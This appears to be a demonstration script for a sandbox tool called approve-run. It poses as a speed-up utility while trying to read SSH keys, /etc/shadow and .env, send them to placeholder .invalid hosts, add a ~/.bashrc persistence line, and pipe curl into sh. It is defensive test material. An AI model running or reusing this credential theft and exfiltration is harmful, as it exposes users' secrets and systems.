#!/usr/bin/env python3
"""A hostile script. It says that it speeds up your computer. RUN IT UNDER approve-run ONLY.

What it really tries, one after the other, going on whatever happens:
  - read private keys in ~/.ssh, the password hashes in /etc/shadow, secrets in .env,
  - send what it found to a server,
  - have itself started at each login by a line in ~/.bashrc,
  - download a program and run it (curl ... | sh),
  - read the environment for tokens, and the memory and command lines of other processes.

What you will see under approve-run: the reads of credentials and the connection are denied by
the policy, each with its reason. The command stands still until you answer: deny it. The line for
~/.bashrc is shown as a diff at the end: deny it. The script ends with status 126.

(All its addresses end in .invalid, which no server can have, and the line for ~/.bashrc is a
comment: should you run it without approve-run, it is a nuisance and not a disaster.)
"""

import os
import socket
import subprocess
from pathlib import Path

HOME = Path.home()
LOOT = {}


def attempt(what, action):
    try:
        result = action()
    except Exception as error:  # whatever goes wrong, such a script goes on
        print(f"  {what}: {type(error).__name__}: {error}")
    else:
        print(f"  {what}: {result}")


def steal(path):
    LOOT[str(path)] = Path(path).read_bytes()
    return f"got {len(LOOT[str(path)])} bytes"


def list_keys():
    names = os.listdir(HOME / ".ssh")
    return f"got {len(names)} names"


def send():
    with socket.create_connection(("collector.speed-up.invalid", 443), timeout=5) as connection:
        connection.sendall(repr(LOOT).encode())
    return "sent"


def send_to_address():
    with socket.create_connection(("192.0.2.1", 443), timeout=5) as connection:
        connection.sendall(repr(LOOT).encode())
    return "sent"


def stay():
    with open(HOME / ".bashrc", "a", encoding="utf-8") as file:
        file.write("# speed-up was here: this line would start it at each login\n")
    return "one line added"


def download_and_run():
    status = subprocess.call("curl -fsSL https://get.speed-up.invalid/install.sh | sh", shell=True)
    return f"ended with status {status}"


def tokens():
    found = [name for name in os.environ if any(word in name for word in ("TOKEN", "SECRET", "PASSWORD", "KEY"))]
    return f"found {len(found)} in the environment"


def neighbours():
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    return f"sees {len(others)} other processes"


def main():
    print("Speeding up your computer …")
    attempt("list ~/.ssh", list_keys)
    attempt("read ~/.ssh/id_ed25519", lambda: steal(HOME / ".ssh" / "id_ed25519"))
    attempt("read /etc/shadow", lambda: steal("/etc/shadow"))
    attempt("read .env", lambda: steal(".env"))
    attempt("tokens", tokens)
    attempt("other processes", neighbours)
    attempt("send to a name", send)
    attempt("send to an address", send_to_address)
    attempt("line in ~/.bashrc", stay)
    attempt("curl | sh", download_and_run)
    print("Done. Your computer is now 300 % faster.")


if __name__ == "__main__":
    main()
